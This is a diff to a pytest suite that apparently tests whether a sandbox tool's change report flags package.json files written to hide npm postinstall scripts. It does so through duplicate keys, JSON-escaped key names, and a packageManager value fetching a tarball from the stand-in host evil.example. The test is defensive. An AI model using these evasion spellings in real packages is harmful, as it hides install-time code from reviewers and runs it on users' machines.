@@ -2555,6 +2555,39 @@ def test_folder_that_can_be_listed_but_not_searched_is_named(lnk, work):
         (work / "sub").chmod(0o755)  # so pytest can remove it
 
 
+# package.json spelled so a reader that looks for the bytes "scripts" and
+# reads the first object after them misses what npm runs: the key twice
+# (npm keeps the last), the key written with a JSON escape (npm decodes
+# it), the word first as a value; the same for packageManager.
+HIDDEN_SCRIPTS = {
+    "twice": '{"scripts":{},"scripts":{"postinstall":"touch ~/pwned"}}',
+    "escaped": '{"name":"x","scr\\u0069pts":{"postinstall":"touch ~/pwned"}}',
+    "value-first": '{"a":"scripts","b":{},"scripts":{"postinstall":"id"}}',
+    "manager-escaped": '{"name":"x","package\\u004danager":'
+                       '"yarn@https://evil.example/yarn.tgz"}',
+}
+
+
+@pytest.mark.parametrize("how", sorted(HIDDEN_SCRIPTS))
+def test_package_json_scripts_spelled_to_hide_flagged(lnk, work, how):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: the program writes a package.json whose postinstall npm runs
+    at the user's next `npm install`, spelled so the report's scan of the
+    bytes "scripts" misses it: `"scripts":{}` then the real one (npm
+    keeps the last key), `"scr\u0069pts"` (npm decodes the escape), the
+    word first as another key's value. The report said "changed 1 file"
+    and flagged nothing."""
+    (work / "doc.json").write_text(HIDDEN_SCRIPTS[how])
+    cp = lnk.run("--write", work, "--name", "hid", "--", "/bin/sh", "-c",
+                 "cat doc.json > package.json", cwd=work)
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "hid")
+    assert "package.json" in flags, (flags, cp.stderr)
+
+
 def test_package_json_naming_a_package_manager_flagged(lnk, work):
     """Invariant 8 (what runs outside later), promise: the changes report names
     every file the program left that a program on the host runs or trusts
